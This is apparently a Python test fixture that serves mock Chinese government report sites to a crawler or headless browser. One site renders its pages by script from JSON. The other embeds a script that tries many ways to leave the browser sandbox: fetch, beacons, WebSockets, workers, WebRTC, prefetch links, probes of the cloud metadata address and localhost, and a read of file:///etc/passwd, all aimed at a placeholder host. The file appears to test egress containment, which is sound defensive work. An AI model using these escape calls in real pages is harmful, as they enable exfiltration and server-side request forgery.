"""A site whose pages are empty but for a script, which draws them from JSON; and a page whose script wants out."""

from __future__ import annotations

import json
from html import escape

from tests.sites import html
from tests.sites.layout import blocks
from tests.sites.platforms.base import PDF, PlatformSite, Wanted, as_pdf, reports
from tests.sites.web import Asked, Reply

COUNTY = "子示例县"
SHELL = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title><link rel="stylesheet" href="/app.css">
<script src="http://cdn.example.com/jquery.js"></script></head><body><div id="app"></div><script src="/app.js"></script></body></html>"""
APP = """
const app = document.getElementById('app');
const load = (path) => fetch(path, {headers: {'X-Requested-With': 'XMLHttpRequest'}}).then((answer) => answer.json());
if (location.pathname === '/zfxxgknb/') {
  const number = new URLSearchParams(location.search).get('page') || '1';
  load('/api/list?page=' + number).then((found) => {
    app.innerHTML = '<h1>政府信息公开年报</h1><ul>' + found.rows.map(
      (row) => `<li><a href="${row.path}">${row.title}</a><span>${row.date}</span></li>`).join('') + '</ul>'
      + (found.more ? `<a href="?page=${+number + 1}">下一页</a>` : '');
  });
} else {
  const query = new XMLHttpRequest();
  query.open('POST', '/api/article');
  query.setRequestHeader('Content-Type', 'application/json');
  query.onload = () => { const found = JSON.parse(query.responseText); document.title = found.title; app.innerHTML = found.body; };
  query.send(JSON.stringify({path: location.pathname}));
}
"""


def site() -> PlatformSite:
    """Six reports: in turn a page that a script draws, a page that stands there in full, and a file."""
    made = PlatformSite("script", "127.0.80.1", COUNTY + "人民政府", "/zfxxgknb/")
    rows: list[dict[str, object]] = []
    drawn: dict[str, dict[str, str]] = {}
    for number, report in enumerate(reports("script", COUNTY)):
        path = f"/detail/{number}.html" if number % 3 < 2 else f"/files/{number}.pdf"
        if number % 3 == 0:
            made.routes[path] = SHELL.format(title="信息公开")
            info = f"<p>发布机构：{escape(report.publisher)}</p><p>发布日期：{report.published_on}</p>"
            drawn[path] = {"title": report.title, "body": f"<h1>{escape(report.title)}</h1>{info}<div id='content'>{html.body(blocks(report))}</div>"}
            made.wanted.append(Wanted(path, report.title, report.publisher, report.year, report.published_on))
        elif number % 3 == 1:
            made.article(path, report, container="div class='main'")
        else:
            made.routes[path] = Reply(as_pdf(report), headers={"Content-Type": PDF})
            made.wanted.append(Wanted(path, report.title, report.publisher, report.year, report.published_on))
        rows.append({"path": path, "title": report.title, "date": report.published_on})
    rows.insert(2, {"path": "/detail/90.html", "title": f"图解：{COUNTY}2023年政府信息公开工作年度报告", "date": "2024-02-01"})
    made.forbidden.append("/detail/90.html")

    def listed(asked: Asked) -> Reply:
        page = int(asked.query["page"])
        return _json({"rows": rows[4 * page - 4:4 * page], "more": len(rows) > 4 * page})

    def article(asked: Asked) -> Reply:
        return _json(drawn[json.loads(asked.body)["path"]]) if asked.method == "POST" else Reply("", 405)

    made.routes |= {
        "/zfxxgknb/": SHELL.format(title="政府信息公开年报"), "/app.js": Reply(APP, headers={"Content-Type": "text/javascript; charset=utf-8"}),
        "/api/list": listed, "/api/article": article,
    }
    return made


def _json(value: object) -> Reply:
    return Reply(json.dumps(value, ensure_ascii=False), headers={"Content-Type": "application/json; charset=utf-8"})


#: Ways out of a browser. ``HOST`` is where nobody may be led, ``UDP`` the same for datagrams.
ESCAPES = """
const tries = [
  () => fetch('http://HOST/fetch'), () => fetch('http://HOST/no-cors', {mode: 'no-cors'}), () => navigator.sendBeacon('http://HOST/beacon', 'x'),
  () => new WebSocket('ws://HOST/socket'), () => new EventSource('http://HOST/events'), () => window.open('http://HOST/window'),
  () => { new Image().src = 'http://HOST/image.png'; }, () => import('http://HOST/module.js'),
  () => { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send(); },
  () => { const x = new XMLHttpRequest(); x.open('PUT', '/put'); x.send('x'); },
  () => { for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
      const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = 'http://HOST/' + rel; document.head.append(link); } },
  () => { const frame = document.createElement('iframe'); frame.src = 'http://HOST/frame'; document.body.append(frame); },
  () => { const frame = document.createElement('iframe'); frame.srcdoc = "<script>fetch('http://HOST/inner')</scr" + "ipt>"; document.body.append(frame); },
  () => { const form = document.createElement('form'); form.action = 'http://HOST/form'; form.method = 'POST';
      const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame); form.target = 'f'; document.body.append(form); form.submit(); },
  () => { const a = document.createElement('a'); a.href = 'http://HOST/download'; a.download = 'x'; a.ping = 'http://HOST/ping'; document.body.append(a); a.click(); },
  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/worker'); new WebSocket('ws://HOST/worker-socket'); importScripts('http://HOST/import.js')"]))),
  () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://HOST/shared'); new WebSocket('ws://HOST/shared-socket')"]))),
  () => new SharedWorker('/shared.js'), () => new Worker('/shared.js'),
  () => navigator.serviceWorker && navigator.serviceWorker.register('/service.js'),
  () => new WebTransport('https://HOST/transport'),
  () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}, {urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b'}]});
      peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
  () => fetch('http://169.254.169.254/latest/'), () => fetch('http://[::1]:PORT/six'), () => fetch('http://localhost:PORT/local'), () => fetch('file:///etc/passwd'),
  () => fetch('/redirect'),
];
for (const attempt of tries) { try { const told = attempt(); if (told && told.catch) told.catch(() => 0); } catch (error) { /* the next one */ } }
"""
WORKER = "fetch('http://HOST/from-shared'); try { new WebSocket('ws://HOST/from-shared-socket') } catch (error) { }"


def escaping(tcp: str, udp: str) -> dict[str, str | Reply]:
    """Routes of a site whose list tries every way out; ``tcp`` and ``udp`` are ``address:port``."""
    def told(script: str) -> str:
        return script.replace("HOST", tcp).replace("UDP", udp).replace("PORT", tcp.rpartition(":")[2])

    script = {"Content-Type": "text/javascript; charset=utf-8"}
    title = f"{COUNTY}教育局2023年政府信息公开工作年度报告"
    page = f"<html><body><h1>政府信息公开年报</h1><p>年度报告都在这里公布，示例文本，示例文本。</p><ul><li><a href='/a.html'>{title}</a></li></ul><script>{told(ESCAPES)}</script></body></html>"
    return {
        "/zfxxgknb/": page, "/shared.js": Reply(told(WORKER), headers=script), "/service.js": Reply(told(WORKER), headers=script),
        "/redirect": Reply(status=302, headers={"Location": f"http://{tcp}/redirected"}),
    }
